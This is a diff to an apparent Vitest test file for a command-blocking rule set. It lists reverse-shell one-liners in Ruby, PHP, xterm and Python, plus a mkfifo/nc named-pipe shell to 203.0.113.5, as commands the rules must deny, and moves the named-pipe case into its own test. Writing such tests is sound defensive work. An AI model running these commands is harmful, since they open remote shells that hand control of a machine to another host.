@@ -1,3 +1,5 @@
+import { expect, it } from 'vitest'
+import { deniedBy } from '../../../../support/denied-by.ts'
 import { describeRules } from '../../../../support/describe-rules.ts'
 
 describeRules({
@@ -31,7 +33,6 @@ describeRules({
       ruby -rsocket -e 'f=TCPSocket.open("203.0.113.5",1).to_i;exec sprintf("/bin/sh -i <&%d",f)'
       python3 -c 'import pty; pty.spawn("/bin/bash")'
       xterm -display 203.0.113.5:1
-      mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 1 > /tmp/f
       php -r '$s=fsockopen("203.0.113.5",1);exec("/bin/sh -i <&3");'`,
     allowed: `
       echo > /dev/tcp/localhost/5432
@@ -64,4 +65,8 @@ describeRules({
       ngrok version
       code .`,
   },
+})
+
+it('denies a shell whose input and output are joined by a named pipe, whichever rule says it', () => {
+  expect(deniedBy('mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 1 > /tmp/f')).not.toBe('allowed')
 })
